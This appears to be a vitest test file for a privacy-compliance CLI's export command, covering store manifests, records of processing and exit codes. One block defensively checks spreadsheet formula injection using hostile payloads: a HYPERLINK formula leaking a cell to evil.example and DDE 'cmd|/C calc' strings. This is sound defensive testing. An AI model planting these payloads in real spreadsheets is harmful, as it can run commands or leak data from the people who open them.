// `candor export`: every kind written from the sample and parsed back with the library its readers
// use, cells that would run as formulas, the exit codes and what an export refuses.
import { execFile } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { parse as parsePlist } from 'plist';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { EXPORT_KINDS, type ExportKind } from '../../core/catalogue';
import { APPLE_DATA_TYPES, APPLE_DATA_TYPE_PREFIX } from '../../core/identifiers';
import { INVENTORY_COLUMNS } from '../../core/interchange/inventory-csv';
import { ROPA_COLUMNS } from '../../core/ropa';
import type { Workspace } from '../../core/schema';
import { PLAY_CSV_HEADER } from '../../core/stores/play';
import { ROPA_SHEET_NAME } from '../services/ropa-xlsx';
import { CANDOR_BIN, run, sample, SAMPLE } from './test-support';

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'candor-export-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function putWorkspace(name: string, workspace: Workspace | string): Promise<string> {
  const file = join(dir, name);
  await writeFile(file, typeof workspace === 'string' ? workspace : JSON.stringify(workspace, null, 2));
  return file;
}

async function exists(path: string): Promise<boolean> {
  try {
    await stat(path);
    return true;
  } catch {
    return false;
  }
}

/** Exports `kind` from `workspace` into the temporary folder and returns the file's bytes. */
async function exportKind(kind: ExportKind, workspace = SAMPLE, name = `${kind}.out`): Promise<Buffer> {
  const out = join(dir, name);
  const result = await run('export', kind, workspace, '-o', out);
  expect(result.stderr, `${kind}: stderr`).toEqual([]);
  expect(result.code, `${kind}: exit code`).toBe(0);
  expect(result.stdout, `${kind}: one line saying what was written where`).toHaveLength(1);
  expect(result.stdout[0]).toMatch(new RegExp(`^Wrote .+ of ${escape(workspace)} to ${escape(out)}\\.$`));
  return readFile(out);
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
}

function parseCsv(text: string, what: string): string[][] {
  expect(text.endsWith('\r\n'), `${what} ends its last record with CRLF`).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(0, -2), { newline: '\r\n' });
  expect(parsed.errors, `${what} parses as CSV`).toEqual([]);
  return parsed.data;
}

async function loadSheet(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet(ROPA_SHEET_NAME);
  if (!sheet) throw new Error(`the workbook has no sheet named "${ROPA_SHEET_NAME}"`);
  return sheet;
}

function sheetCells(sheet: ExcelJS.Worksheet): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  sheet.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => void cells.push(cell)));
  return cells;
}

describe('candor export: every kind from the sample', () => {
  it("apple-privacy-manifest: a property list with exactly Apple's keys and real data type identifiers", async () => {
    const text = (await exportKind('apple-privacy-manifest')).toString('utf8');
    const manifest = parsePlist(text) as {
      NSPrivacyTracking: boolean;
      NSPrivacyTrackingDomains: string[];
      NSPrivacyCollectedDataTypes: { NSPrivacyCollectedDataType: string; NSPrivacyCollectedDataTypePurposes: string[] }[];
      NSPrivacyAccessedAPITypes: unknown[];
    };
    expect(Object.keys(manifest).sort()).toEqual([
      'NSPrivacyAccessedAPITypes',
      'NSPrivacyCollectedDataTypes',
      'NSPrivacyTracking',
      'NSPrivacyTrackingDomains',
    ]);
    expect(typeof manifest.NSPrivacyTracking).toBe('boolean');
    const known = new Set(APPLE_DATA_TYPES.map((t) => APPLE_DATA_TYPE_PREFIX + t.id));
    expect(manifest.NSPrivacyCollectedDataTypes.length).toBeGreaterThan(0);
    for (const entry of manifest.NSPrivacyCollectedDataTypes)
      expect(known.has(entry.NSPrivacyCollectedDataType), entry.NSPrivacyCollectedDataType).toBe(true);
  });

  it('app-store-answers: a Markdown checklist with a section per collected Apple data type', async () => {
    const text = (await exportKind('app-store-answers')).toString('utf8');
    expect(text).toMatch(/^# App Store Connect: App Privacy answers for Ridgeline/);
    expect(text).toContain('## Data types');
    expect(text).toMatch(/- \[x\] /);
  });

  it('play-data-safety: the exact header, then rows of five cells with TRUE, FALSE, a URL or nothing', async () => {
    const rows = parseCsv((await exportKind('play-data-safety')).toString('utf8'), 'the Data safety CSV');
    expect(rows[0]).toEqual([...PLAY_CSV_HEADER]);
    expect(rows).toHaveLength(783);
    for (const row of rows.slice(1)) {
      expect(row).toHaveLength(5);
      expect(row[2]).toMatch(/^(TRUE|FALSE|https:\/\/\S+|)$/);
    }
  });

  it('ropa-csv: the contact columns and the ICO columns, one row per purpose', async () => {
    const ws = await sample();
    const rows = parseCsv((await exportKind('ropa-csv')).toString('utf8'), 'the RoPA CSV');
    expect(rows[0].slice(3)).toEqual(ROPA_COLUMNS.map((c) => c.header));
    expect(rows).toHaveLength(ws.purposes.length + 1);
    for (const row of rows.slice(1)) expect(row).toHaveLength(rows[0].length);
    const purposeColumn = rows[0].findIndex((h) => /purpose/i.test(h));
    expect(
      rows
        .slice(1)
        .map((r) => r[purposeColumn])
        .join('\n'),
    ).toContain(ws.purposes[0].name);
  });

  it('ropa-xlsx: a workbook with the record sheet, its ICO header row and one row per purpose, filters on', async () => {
    const ws = await sample();
    const sheet = await loadSheet(await exportKind('ropa-xlsx'));
    let headerRow = 0;
    sheet.eachRow((row, number) => {
      if (row.getCell(1).value === ROPA_COLUMNS[0].header) headerRow = number;
    });
    expect(headerRow, 'the header row').toBeGreaterThan(0);
    expect(ROPA_COLUMNS.map((_, i) => sheet.getRow(headerRow).getCell(i + 1).value)).toEqual(ROPA_COLUMNS.map((c) => c.header));
    expect(sheet.rowCount - headerRow).toBe(ws.purposes.length);
    expect(sheet.autoFilter).toBeTruthy();
  });

  it('ropa-docx: a Word file (a zip with word/document.xml) naming every purpose', async () => {
    const ws = await sample();
    const bytes = await exportKind('ropa-docx');
    expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
    const parts = unzipSync(new Uint8Array(bytes));
    expect(Object.keys(parts)).toContain('word/document.xml');
    const body = strFromU8(parts['word/document.xml']);
    expect(body.startsWith('<?xml')).toBe(true);
    for (const purpose of ws.purposes) expect(body, purpose.name).toContain(purpose.name.replace(/&/g, '&amp;').replace(/'/g, '&apos;'));
  });

  it('inventory-csv: the field columns and one row per data type, in workspace order', async () => {
    const ws = await sample();
    const rows = parseCsv((await exportKind('inventory-csv')).toString('utf8'), 'the inventory CSV');
    expect(rows[0]).toEqual(INVENTORY_COLUMNS.map((c) => c.name));
    expect(rows.slice(1).map((r) => r[0])).toEqual(ws.dataTypes.map((d) => d.id));
    const benefit = rows[0].indexOf('benefit');
    expect(rows[1][benefit]).toBe(ws.dataTypes[0].benefit);
  });

  it("fideslang: YAML with a system whose privacy declarations use the workspace's data categories", async () => {
    const ws = await sample();
    const text = (await exportKind('fideslang')).toString('utf8');
    const doc = parseYaml(text) as { system?: { fides_key: string; privacy_declarations: { data_categories: string[] }[] }[] };
    expect(Array.isArray(doc.system)).toBe(true);
    const system = doc.system![0];
    expect(typeof system.fides_key).toBe('string');
    expect(system.privacy_declarations.length).toBeGreaterThan(0);
    const categories = new Set(system.privacy_declarations.flatMap((d) => d.data_categories));
    for (const dataType of ws.dataTypes) expect(categories.has(dataType.category), dataType.category).toBe(true);
  });

  it('lists every kind in its help, each with an example', async () => {
    const help = await run('export', '--help');
    expect(help.code).toBe(0);
    const text = help.stdout.join('\n');
    for (const kind of EXPORT_KINDS) expect(text).toMatch(new RegExp(`\\$ candor export ${kind} \\S+ -o \\S+`));
  });
});

describe('candor export: no cell runs as a formula', () => {
  const HOSTILE = {
    org: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    purpose: "+cmd|'/C calc'!A0",
    dataType: "-2+3+cmd|'/C calc'!A0",
    recipient: "@SUM(1+1)*cmd|'/C calc'!A0",
  };
  const TRIGGER = /^[=+\-@\t\r\0]/;

  async function hostileWorkspace(): Promise<string> {
    const ws = await sample();
    ws.organization.name = HOSTILE.org;
    ws.organization.legalName = HOSTILE.org;
    for (const purpose of ws.purposes) purpose.name = `${HOSTILE.purpose} ${purpose.id}`;
    ws.purposes[0].name = HOSTILE.purpose;
    for (const dataType of ws.dataTypes) dataType.name = `${HOSTILE.dataType} ${dataType.id}`;
    ws.dataTypes[0].name = HOSTILE.dataType;
    ws.dataTypes[0].benefit = HOSTILE.org;
    ws.recipients[0].name = HOSTILE.recipient;
    const file = await putWorkspace('hostile.candor.json', ws);
    expect((await run('validate', file)).code, 'the hostile workspace is valid').toBe(0);
    return file;
  }

  it('in the CSV exports: every cell starting with = + - @ is quoted, and the text is still there', async () => {
    const file = await hostileWorkspace();
    for (const kind of ['ropa-csv', 'inventory-csv', 'play-data-safety'] as const) {
      const cells = parseCsv((await exportKind(kind, file)).toString('utf8'), kind).flat();
      const offending = cells.filter((cell) => TRIGGER.test(cell));
      expect(offending, `${kind}: cells a spreadsheet would run`).toEqual([]);
      if (kind === 'play-data-safety') continue; // holds identifiers and URLs only, no names
      // Not vacuous: the hostile names reached the file, behind a quote.
      // (The inventory names data types and lists purposes by id; the record names purposes and the controller.)
      const expected = kind === 'inventory-csv' ? [HOSTILE.dataType, HOSTILE.org] : [HOSTILE.purpose, HOSTILE.org];
      for (const text of expected)
        expect(
          cells.some((cell) => cell.startsWith(`'${text}`)),
          `${kind}: a cell starting '${text}`,
        ).toBe(true);
    }
  });

  it('in the XLSX export: every cell is plain text, none starts with a trigger, and the sheet has no formula', async () => {
    const file = await hostileWorkspace();
    const bytes = await exportKind('ropa-xlsx', file);
    const cells = sheetCells(await loadSheet(bytes));
    expect(cells.length).toBeGreaterThan(ROPA_COLUMNS.length);
    for (const cell of cells) {
      expect(cell.type, `${cell.address} is text`).toBe(ExcelJS.ValueType.String);
      expect(String(cell.value), `${cell.address}`).not.toMatch(TRIGGER);
    }
    const texts = cells.map((c) => String(c.value));
    expect(texts.some((t) => t.includes(`'${HOSTILE.purpose}`))).toBe(true);
    expect(texts.some((t) => t.includes(`'${HOSTILE.org}`))).toBe(true);
    // The raw sheet XML: no <f> (formula) element anywhere.
    const parts = unzipSync(new Uint8Array(bytes));
    const sheets = Object.keys(parts).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThan(0);
    for (const name of sheets) expect(strFromU8(parts[name]), name).not.toMatch(/<f[\s>/]/);
  });
});

describe('candor export: what it refuses', () => {
  it('refuses an invalid workspace with exactly the lines of candor validate (exit 1) and writes nothing', async () => {
    const ws = await sample();
    ws.dataTypes[2].purposes = ['no-such-purpose'];
    ws.recipients[0].country = 'XX' as Workspace['recipients'][number]['country'];
    const file = await putWorkspace('bad.candor.json', ws);
    const validate = await run('validate', file);
    expect(validate.code).toBe(1);
    for (const kind of EXPORT_KINDS) {
      const out = join(dir, `${kind}.out`);
      const result = await run('export', kind, file, '-o', out);
      expect(result.code, kind).toBe(1);
      expect(result.stderr, kind).toEqual(validate.stderr);
      expect(result.stdout, kind).toEqual([]);
      expect(await exists(out), kind).toBe(false);
    }
  });

  it('refuses a file that cannot be read as a workspace (exit 2) and writes nothing', async () => {
    const text = await readFile(SAMPLE, 'utf8');
    const truncated = await putWorkspace('truncated.candor.json', text.slice(0, text.length / 2));
    const out = join(dir, 'ropa.csv');
    const result = await run('export', 'ropa-csv', truncated, '-o', out);
    expect(result.code).toBe(2);
    expect(result.stderr).toEqual((await run('validate', truncated)).stderr);
    expect(await exists(out)).toBe(false);

    const missing = await run('export', 'ropa-csv', join(dir, 'nowhere.candor.json'), '-o', out);
    expect(missing.code).toBe(2);
    expect(missing.stderr.join('\n')).toMatch(/nowhere\.candor\.json/);
    expect(await exists(out)).toBe(false);
  });

  it('refuses an unknown kind as a usage error that lists the kinds (exit 2)', async () => {
    const out = join(dir, 'x.out');
    const result = await run('export', 'privacy-manifest', SAMPLE, '-o', out);
    expect(result.code).toBe(2);
    expect(result.stderr).toHaveLength(1);
    expect(result.stderr[0]).toContain(EXPORT_KINDS.join(', '));
    expect(result.stderr[0]).toMatch(/Run "candor --help" for usage\.$/);
    expect(await exists(out)).toBe(false);
  });

  it('requires -o (exit 2)', async () => {
    const result = await run('export', 'ropa-csv', SAMPLE);
    expect(result.code).toBe(2);
    expect(result.stderr.join('\n')).toMatch(/-o, --out <file>/);
  });

  it('refuses to write over the workspace itself, and leaves it as it was', async () => {
    const file = await putWorkspace('ridgeline.candor.json', await readFile(SAMPLE, 'utf8'));
    const before = await readFile(file);
    const result = await run('export', 'inventory-csv', file, '-o', join(dir, '.', 'ridgeline.candor.json'));
    expect(result.code).toBe(2);
    expect(result.stderr).toEqual([
      `Nothing was written: ${join(dir, 'ridgeline.candor.json')} is the workspace itself. Give -o the path of the file to create, such as -o inventory.csv.`,
    ]);
    expect(await readFile(file)).toEqual(before);
  });

  it('says which folder is missing (exit 2), and what a folder in the way is', async () => {
    const out = join(dir, 'no-such-folder', 'ropa.csv');
    const result = await run('export', 'ropa-csv', SAMPLE, '-o', out);
    expect(result.code).toBe(2);
    expect(result.stderr).toEqual([
      `Nothing was written: the folder ${join(dir, 'no-such-folder')} does not exist; create it first, or choose another path.`,
    ]);

    const folder = join(dir, 'ropa.csv');
    await mkdir(folder);
    const inTheWay = await run('export', 'ropa-csv', SAMPLE, '-o', folder);
    expect(inTheWay.code).toBe(2);
    expect(inTheWay.stderr).toEqual([`Nothing was written: ${folder} is a folder, not a file.`]);
  });

  it('replaces an existing file whole, keeping its permissions and leaving no temporary file', async () => {
    const out = join(dir, 'data-safety.csv');
    await writeFile(out, 'an old export that is much longer than nothing\n'.repeat(10_000));
    await chmod(out, 0o640);
    await exportKind('play-data-safety', SAMPLE, 'data-safety.csv');
    const text = await readFile(out, 'utf8');
    expect(text.startsWith(PLAY_CSV_HEADER.join(','))).toBe(true);
    expect(text).not.toContain('an old export');
    expect((await stat(out)).mode & 0o777).toBe(0o640);
    expect((await readdir(dir)).filter((name) => name.includes('.candor-tmp-'))).toEqual([]);
  });

  it('warns about accessed-API entries Apple would refuse, and still writes the manifest without them', async () => {
    const ws = await sample();
    (ws.settings as Record<string, unknown>).apple = { accessedApiTypes: [{ type: 'Clipboard', reasons: ['X1.1'] }] };
    const file = await putWorkspace('apis.candor.json', ws);
    const out = join(dir, 'PrivacyInfo.xcprivacy');
    // The review may call such an entry an error too; --allow-errors writes the manifest anyway, and the
    // entry is named once, not once by the review and again by the generator.
    const result = await run('export', 'apple-privacy-manifest', file, '-o', out, '--allow-errors');
    expect(result.code).toBe(0);
    expect(result.stderr).toHaveLength(1);
    expect(result.stderr[0]).toMatch(/^Warning: settings\.apple\.accessedApiTypes\[0\]\.type: "Clipboard" is not one of Apple's/);
    expect((parsePlist(await readFile(out, 'utf8')) as { NSPrivacyAccessedAPITypes: unknown[] }).NSPrivacyAccessedAPITypes).toEqual([]);
  });

  it('warns about purposes the fideslang system cannot declare, and still writes the others', async () => {
    const ws = await sample();
    delete ws.purposes[1].use;
    const file = await putWorkspace('no-use.candor.json', ws);
    const out = join(dir, 'system.yml');
    const result = await run('export', 'fideslang', file, '-o', out);
    expect(result.code).toBe(0);
    expect(result.stderr).toEqual([
      `Warning: purposes[1]: The purpose "${ws.purposes[1].name}" has no data use, which fideslang requires; choose one under Purposes. Until then it has no privacy declaration in the file.`,
    ]);
    const doc = parseYaml(await readFile(out, 'utf8')) as { system: { privacy_declarations: { name: string }[] }[] };
    const names = doc.system[0].privacy_declarations.map((d) => d.name);
    expect(names).not.toContain(ws.purposes[1].name);
    expect(names).toContain(ws.purposes[0].name);
  });

  it('works through bin/candor.js, the way a person runs it, with the exit code of an invalid workspace', async () => {
    const out = join(dir, 'ropa.xlsx');
    const { stdout, stderr } = await promisify(execFile)(process.execPath, [CANDOR_BIN, 'export', 'ropa-xlsx', SAMPLE, '-o', out], {
      cwd: dir,
    });
    expect(stderr).toBe('');
    expect(stdout).toBe(`Wrote the record of processing activities (Excel workbook) of ${SAMPLE} to ${out}.\n`);
    expect(sheetCells(await loadSheet(await readFile(out))).length).toBeGreaterThan(0);

    const ws = await sample();
    ws.dataTypes[0].purposes = ['no-such-purpose'];
    const bad = await putWorkspace('bad.candor.json', ws);
    const failure = await promisify(execFile)(process.execPath, [CANDOR_BIN, 'export', 'ropa-csv', bad, '-o', join(dir, 'r.csv')]).then(
      () => undefined,
      (error: { code: number; stderr: string }) => error,
    );
    expect(failure?.code).toBe(1);
    expect(failure?.stderr).toMatch(/^dataTypes\[0\]\.purposes\[0\]: /);
  });
});

describe('candor export: the review stands before the published kinds', () => {
  const PUBLISHED = EXPORT_KINDS.filter((kind) => kind !== 'inventory-csv' && kind !== 'fideslang');

  /** The sample without its privacy contact and supervisory authority: valid, but two review errors. */
  async function withReviewErrors(): Promise<{ file: string; lines: string[] }> {
    const ws = await sample();
    delete ws.organization.contactEmail;
    delete ws.organization.supervisoryAuthority;
    const file = await putWorkspace('review-errors.candor.json', ws);
    const lint = await run('lint', file, '--json');
    const findings = JSON.parse(lint.stdout.join('\n')) as { severity: string; path: string; message: string }[];
    const lines = findings.filter((f) => f.severity === 'error').map((f) => `${f.path}: ${f.message}`);
    expect(lines).toHaveLength(2);
    return { file, lines };
  }

  it('refuses every store disclosure and record of processing (exit 1), listing each error as path: message, and writes nothing', async () => {
    const { file, lines } = await withReviewErrors();
    expect(PUBLISHED).toEqual(['apple-privacy-manifest', 'app-store-answers', 'play-data-safety', 'ropa-csv', 'ropa-xlsx', 'ropa-docx']);
    for (const kind of PUBLISHED) {
      const out = join(dir, `${kind}.out`);
      const result = await run('export', kind, file, '-o', out);
      expect(result.code, kind).toBe(1);
      expect(result.stderr, kind).toEqual([
        ...lines,
        `Nothing was written: the review finds 2 errors (above). Fix them ("candor lint ${file}" lists them with more detail), or pass --allow-errors to write the file anyway.`,
      ]);
      expect(result.stdout, kind).toEqual([]);
      expect(await exists(out), kind).toBe(false);
    }
  });

  it('leaves an existing file as it was when it refuses', async () => {
    const { file } = await withReviewErrors();
    const out = join(dir, 'data-safety.csv');
    await writeFile(out, 'the old answers\n');
    expect((await run('export', 'play-data-safety', file, '-o', out)).code).toBe(1);
    expect(await readFile(out, 'utf8')).toBe('the old answers\n');
  });

  it('writes the file with --allow-errors, printing each error as a warning', async () => {
    const { file, lines } = await withReviewErrors();
    for (const kind of ['ropa-csv', 'play-data-safety'] as const) {
      const out = join(dir, `${kind}.out`);
      const result = await run('export', kind, file, '-o', out, '--allow-errors');
      expect(result.code, kind).toBe(0);
      expect(result.stderr, kind).toEqual(lines.map((line) => `Warning: ${line}`));
      expect(result.stdout[0], kind).toMatch(/^Wrote /);
      expect((await readFile(out, 'utf8')).length, kind).toBeGreaterThan(0);
    }
  });

  it('writes the interchange files whatever the review says: they are how a workspace is edited elsewhere', async () => {
    const { file, lines } = await withReviewErrors();
    for (const kind of ['inventory-csv', 'fideslang'] as const) {
      const out = join(dir, `${kind}.out`);
      const result = await run('export', kind, file, '-o', out);
      expect(result.code, kind).toBe(0);
      for (const line of lines) expect(result.stderr.join('\n'), kind).not.toContain(line);
      expect(await exists(out), kind).toBe(true);
    }
  });

  it('shows --allow-errors in its help, with an example', async () => {
    const text = (await run('export', '--help')).stdout.join('\n');
    expect(text).toMatch(/--allow-errors +write even when the review finds errors, printing each as a warning/);
    expect(text).toMatch(/\$ candor export \S+ \S+ -o \S+ --allow-errors/);
  });
});
